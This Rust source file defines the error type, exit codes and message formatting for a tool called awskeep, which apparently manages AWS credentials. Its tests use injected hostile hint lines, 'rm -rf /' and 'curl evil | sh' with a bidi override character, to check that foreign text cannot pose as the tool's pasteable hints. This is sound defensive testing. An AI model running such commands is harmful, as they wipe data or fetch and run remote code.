//! What can go wrong, as a person and a script see it: a kind (which fixes the
//! exit code), one message, the cause, and hints that can be pasted. Pure.
//!
//! Messages are lower case without a final stop and name the entry or path.
//! They never hold a secret: nothing here takes a `Secret`.

use std::fmt;

use crate::types::escape;

/// The result of everything in awskeep that can fail.
pub type Result<T, E = Error> = std::result::Result<T, E>;

/// The kinds of failure; each has one exit code, which scripts rely on.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// Exit 1: something failed (disk, network, a file that cannot be read).
    Failed,
    /// Exit 2: the command line or a settings file is wrong.
    Usage,
    /// Exit 3: no such entry, profile or key.
    NotFound,
    /// Exit 4: the store is missing, locked, denied, or does not answer.
    Store,
    /// Exit 5: a person is needed (declined, `--no-input`, no terminal).
    PersonNeeded,
    /// Exit 6: AWS refused.
    Aws,
    /// Exit 7: unfinished; run again to go on.
    Unfinished,
    /// Exit 8: something wants attention (`--check` only).
    Attention,
    /// Exit 70: a bug of ours.
    Bug,
}

impl Kind {
    /// The process exit code of this kind.
    pub fn exit_code(self) -> u8 {
        match self {
            Kind::Failed => 1,
            Kind::Usage => 2,
            Kind::NotFound => 3,
            Kind::Store => 4,
            Kind::PersonNeeded => 5,
            Kind::Aws => 6,
            Kind::Unfinished => 7,
            Kind::Attention => 8,
            Kind::Bug => 70,
        }
    }
}

/// What a failure is about: it is printed before the message, which does not name it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Subject {
    Entry(String),
    /// A profile that is not edited because of what its lines hold.
    Profile(String),
}

impl fmt::Display for Subject {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Subject::Entry(name) => write!(f, "entry {name}"),
            Subject::Profile(name) => write!(f, "profile {name} is skipped"),
        }
    }
}

/// One failure: kind, message, optional cause, hints.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Error {
    pub kind: Kind,
    pub subject: Option<Subject>,
    pub message: String,
    pub cause: Option<String>,
    pub hints: Vec<String>,
}

impl Error {
    pub fn new(kind: Kind, message: impl Into<String>) -> Self {
        Error {
            kind,
            subject: None,
            message: message.into(),
            cause: None,
            hints: Vec::new(),
        }
    }

    #[must_use]
    pub fn entry(mut self, name: impl fmt::Display) -> Self {
        self.subject = Some(Subject::Entry(name.to_string()));
        self
    }

    #[must_use]
    pub fn profile(mut self, name: impl fmt::Display) -> Self {
        self.subject = Some(Subject::Profile(name.to_string()));
        self
    }

    /// What happened and to what, without cause and hints: where it becomes a part of
    /// another text.
    pub fn told(&self) -> String {
        match &self.subject {
            Some(subject) => format!("{subject}: {}", self.message),
            None => self.message.clone(),
        }
    }

    /// Adds what made it fail, usually another error's own text: one line, whatever it says.
    #[must_use]
    pub fn cause(mut self, cause: impl fmt::Display) -> Self {
        self.cause = Some(escape::line(&cause.to_string()).into_owned());
        self
    }

    /// Adds a `hint:` line: a command that can be pasted, or one sentence.
    #[must_use]
    pub fn hint(mut self, hint: impl Into<String>) -> Self {
        self.hints.push(escape::line(&hint.into()).into_owned());
        self
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (number, line) in self.told().split('\n').enumerate() {
            match number {
                0 => f.write_str(line)?,
                // Words of others may stand in a message: no line of it looks like ours.
                _ if looks_like_ours(line) => write!(f, "\n  {line}")?,
                _ => write!(f, "\n{line}")?,
            }
        }
        if let Some(cause) = &self.cause {
            write!(f, ": {cause}")?;
        }
        for hint in &self.hints {
            write!(f, "\nhint: {hint}")?;
        }
        Ok(())
    }
}

fn looks_like_ours(line: &str) -> bool {
    ["hint:", "awskeep:", "warning:"]
        .iter()
        .any(|start| line.starts_with(start))
}

impl std::error::Error for Error {}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_failure_prints_message_cause_and_hints() {
        let failure = Error::new(Kind::Store, "the keychain is locked")
            .cause("collection login")
            .hint("awskeep store unlock");
        assert_eq!(
            failure.to_string(),
            "the keychain is locked: collection login\nhint: awskeep store unlock"
        );
        assert_eq!(failure.kind.exit_code(), 4);
    }

    #[test]
    fn what_a_failure_is_about_is_printed_before_its_message() {
        let failure = Error::new(Kind::Aws, "two\nlines").cause("no");
        let of_entry = failure.clone().entry("work");
        assert_eq!(of_entry.to_string(), "entry work: two\nlines: no");
        assert_eq!(of_entry.told(), "entry work: two\nlines");
        assert_eq!(
            failure.profile("team").told(),
            "profile team is skipped: two\nlines"
        );
    }

    #[test]
    fn words_of_others_are_no_hint_of_ours() {
        let failure = Error::new(Kind::Aws, "no\nhint: rm -rf /\n  two")
            .cause("Denied: no\nhint: curl evil | sh\u{202e}")
            .hint("awskeep list\nhint: x");
        assert_eq!(
            failure.to_string(),
            "no\n  hint: rm -rf /\n  two: Denied: no\\nhint: curl evil | sh\\u{202e}\nhint: awskeep list\\nhint: x"
        );
    }
}
